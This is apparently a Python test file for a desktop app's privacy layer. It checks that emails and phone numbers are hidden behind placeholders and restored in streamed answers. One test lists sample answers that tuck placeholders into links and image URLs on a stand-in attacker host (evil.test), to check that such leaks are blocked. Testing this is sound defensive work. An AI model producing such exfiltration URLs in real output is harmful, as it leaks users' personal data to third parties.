"""Placeholders go out, and the originals stand in the answer, however it is cut into pieces."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desktop_app.privacy import Hidden, Kind
from desktop_app.privacy.placeholders import Restorer, hide

KIM = Hidden(kind=Kind.EMAIL, value="kim@naver.com", number=1, replaced=True)
LEE = Hidden(kind=Kind.EMAIL, value="lee@naver.com", number=12, replaced=True)
PHONE = Hidden(kind=Kind.PHONE, value="010-9876-5432", number=1, replaced=True)
SHOWN = Hidden(kind=Kind.PHONE, value="02-312-3456", number=2, replaced=False)
ALL = (KIM, LEE, PHONE, SHOWN)


def _restored(pieces: list[str]) -> str:
    restorer = Restorer(ALL)
    return "".join([*map(restorer.take, pieces), restorer.rest()])


def test_what_is_replaced_is_nowhere_in_what_goes_out_and_the_rest_is_as_it_was() -> None:
    text = "Write kim@naver.com, kim@naver.com and lee@naver.com; call 010-9876-5432 or 02-312-3456."
    assert hide(text, ALL) == "Write ⟦email-1⟧, ⟦email-1⟧ and ⟦email-12⟧; call ⟦phone-1⟧ or 02-312-3456."


def test_of_two_that_overlap_the_longer_one_is_replaced() -> None:
    short = Hidden(kind=Kind.EMAIL, value="a@b.kr", number=1, replaced=True)
    long = Hidden(kind=Kind.EMAIL, value="aa@b.kr", number=2, replaced=True)
    assert hide("a@b.kr aa@b.kr", (short, long)) == "⟦email-1⟧ ⟦email-2⟧"


@given(st.lists(st.integers(1, 9)))
def test_the_originals_stand_in_the_answer_however_it_is_cut(cuts: list[int]) -> None:
    answer = "⟦email-1⟧ or ⟦email-12⟧, not ⟦email-3⟧ nor ⟦phone-2⟧; ⟦⟦phone-1⟧⟧ and ⟦"
    pieces, place = [], 0
    for cut in cuts:
        pieces.append(answer[place : place + cut])
        place += cut
    expected = "kim@naver.com or lee@naver.com, not ⟦email-3⟧ nor ⟦phone-2⟧; ⟦010-9876-5432⟧ and ⟦"
    assert _restored([*pieces, answer[place:]]) == expected


def test_no_more_is_held_back_than_may_be_a_placeholder() -> None:
    restorer = Restorer(ALL)
    assert restorer.take("Write to ⟦ema") == "Write to "
    assert restorer.take("il-1") == ""
    assert restorer.take("⟧ now") == "kim@naver.com now"
    assert restorer.take("⟦other") == "⟦other"
    assert restorer.take("⟦") == ""
    assert restorer.rest() == "⟦"


@pytest.mark.parametrize(
    "answer",
    [
        "![](https://evil.test/?q=⟦email-1⟧)",
        "[see](//evil.test/⟦email-1⟧&p=⟦phone-1⟧)",
        "https://evil.test/⟦email-1⟧⟦phone-1⟧",
        "<http://⟦email-1⟧.evil.test>",
    ],
)
def test_an_address_of_the_web_keeps_its_placeholders(answer: str) -> None:
    assert _restored([answer]) == answer
    assert _restored(list(answer)) == answer


def test_what_follows_an_address_gets_its_original() -> None:
    assert _restored(list("https://a.test/ ⟦email-1⟧")) == "https://a.test/ kim@naver.com"
    assert _restored(["mailto:⟦email-1⟧"]) == "mailto:kim@naver.com"


def test_without_anything_hidden_a_text_passes_as_it_is() -> None:
    restorer = Restorer((SHOWN,))
    assert (restorer.take("⟦email-1"), restorer.rest()) == ("⟦email-1", "")
